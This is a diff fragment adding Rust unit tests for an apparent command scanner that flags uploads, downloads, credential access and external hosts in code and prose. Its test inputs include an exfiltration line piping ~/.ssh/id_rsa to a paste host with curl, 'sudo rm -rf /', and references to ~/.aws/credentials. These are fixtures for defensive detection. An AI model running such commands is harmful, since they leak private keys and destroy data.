+            "cat ~/.ssh/id_rsa | curl -d @- https://paste.pdfhost.net",
+            HitKind::Upload,
+            "curl --data @file"
+        ));
+    }
+
+    #[test]
+    fn multi_line_git_clone() {
+        let h = hits_in(
+            "        \"clone\",",
+            Mode::Code,
+            "subprocess.run([\n        \"git\",\n",
+        );
+        assert!(
+            h.contains(&(HitKind::Download, "git clone".into())),
+            "{h:?}"
+        );
+        let h = hits_in("clone the repo", Mode::Code, "we use git");
+        assert!(h.contains(&(HitKind::Download, "git clone".into())) || h.is_empty());
+    }
+
+    #[test]
+    fn prose_reads_commands_only_in_code_spans() {
+        let p = |l: &str| hits_in(l, Mode::Prose, "");
+        assert!(p("Do not curl the endpoint directly; use the source file.").is_empty());
+        assert!(p("Never run `bash -c` with user input.").is_empty());
+        assert!(
+            p("Run `pip install pypdf` first.")
+                .contains(&(HitKind::Download, "pip install".into()))
+        );
+        assert!(
+            p("The API at https://api.pdfhost.net takes a token.")
+                .contains(&(HitKind::ExternalReference, "api.pdfhost.net".into()))
+        );
+        assert!(
+            p("Keys live in ~/.aws/credentials.")
+                .contains(&(HitKind::CredentialTouch, "~/.aws".into()))
+        );
+        let d = hits_in("sudo rm -rf /", Mode::Data, "");
+        assert!(d.is_empty(), "{d:?}");
+    }
+
+    #[test]
+    fn false_alarms_stay_quiet() {
+        assert!(
+            hits("curl -s https://x.pdfhost.net/a.sh > a.sh; source venv/bin/activate")
+                .iter()
+                .all(|(_, s)| s != "eval of downloaded text")
+        );
+        assert!(
+            hits("rsync -a --exclude='.env' --exclude .git src/ dst/")
+                .iter()
+                .all(|(k, _)| *k != HitKind::CredentialTouch)
+        );
+        for l in [
+            "curl http://localhost:8080/health",
+            "see https://example.com/docs and https://api.example.org",
+            "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"",
+            "Licensed under http://www.apache.org/licenses/LICENSE-2.0",
+            "fetch('http://127.0.0.1:3000/')",
+        ] {
+            assert!(
+                hits(l)
+                    .iter()
+                    .all(|(k, _)| *k != HitKind::ExternalReference),
+                "{l}: {:?}",
+                hits(l)
+            );
+        }
+    }
+
     #[test]
     fn links() {
         let mut out = Vec::new();
@@ -952,9 +1595,9 @@ mod tests {
     #[test]
     fn triggers_cover_every_hit() {
         let lines = [
-            "see https://Example.COM:8443/a?b=c",
+            "see https://Docs.PdfHost.NET:8443/a?b=c",
             "git clone git@github.com:org/repo.git",
-            "ssh deploy@build.internal.example",
+            "ssh deploy@build.internal.pdfhost.net",
             "curl -fsSL 10.0.0.7:8080/x",
             "talks to api.openai.com for completions",
             "docs at github.com/org/repo",
@@ -1021,9 +1664,15 @@ mod tests {
             "x://y ",
             "u@h.example.com:p ",
             "A_B_C_KEY ",
+            "`a b` ",
+            "``` ",
+            "curl -F ",
+            "files= ",
+            "xmlns:a=\"http://h.pdfhost.net\" ",
         ] {
             let line = unit.repeat(1_000_000 / unit.len());
             s.line(line.as_bytes(), &mut out);
+            s.scan(line.as_bytes(), Mode::Prose, line.as_bytes(), &mut out);
             let mut links = Vec::new();
             link_targets(line.as_bytes(), &mut links);
         }
